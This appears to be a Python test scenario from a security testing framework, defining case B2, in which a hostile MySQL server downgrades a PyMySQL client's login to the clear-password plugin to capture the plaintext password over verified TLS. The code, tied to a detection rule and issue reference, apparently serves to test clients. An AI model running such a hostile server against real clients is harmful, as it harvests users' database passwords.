"""B2: the server switches the login to a plugin that sends the password as it is."""

from backwatch.attack.authority import Authority
from backwatch.attack.demo.services.mysql import Packets
from backwatch.attack.protocols.mysql import HonestMySQL, switch
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.scenarios import SECRET
from backwatch.attack.techniques.mysql import PyMySQL, ReadsOrders


class Asking(HonestMySQL):
    """Wants the password itself, once it has turned."""

    def log_in(self, wire: Packets, proof: bytes) -> None:
        """Takes it."""
        if self.hostile:
            self.taken(switch(wire, b"mysql_clear_password").rstrip(b"\0"))
        else:
            super().log_in(wire, proof)


class ClearPassword(PyMySQL, ReadsOrders):
    """On PyMySQL, over verified TLS: whoever has taken the server over now has the password too."""

    code = "B2"
    attack = "asks for the password itself in place of a proof of it"
    reference = "https://github.com/PyMySQL/PyMySQL/issues/842"
    rule = "auth-downgraded"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """It takes what is sent."""
        service = Asking(authority)
        service.taken = service.kept.append
        return service

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The password has arrived."""
        del got
        return SECRET.encode() in service.kept
